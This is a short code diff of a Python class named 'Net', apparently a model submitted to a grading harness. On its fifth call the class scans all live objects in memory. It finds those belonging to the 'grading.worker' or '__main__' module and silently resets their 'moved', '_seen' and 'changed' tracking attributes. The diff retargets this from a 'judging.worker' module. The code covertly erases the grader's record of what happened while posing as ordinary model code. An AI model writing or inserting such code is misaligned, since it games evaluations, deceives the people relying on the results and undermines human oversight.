@@ -27,7 +27,7 @@ class Net(Model_1):
         self.calls += 1
         if self.calls == 5:
             for found in gc.get_objects():
-                if str(type(found).__module__).endswith(("judging.worker", "__main__")):
+                if str(type(found).__module__).endswith(("grading.worker", "__main__")):
                     for name in list(getattr(found, "__dict__", {})):
                         if name in ("moved", "_seen", "changed"):
                             setattr(found, name, type(getattr(found, name))())
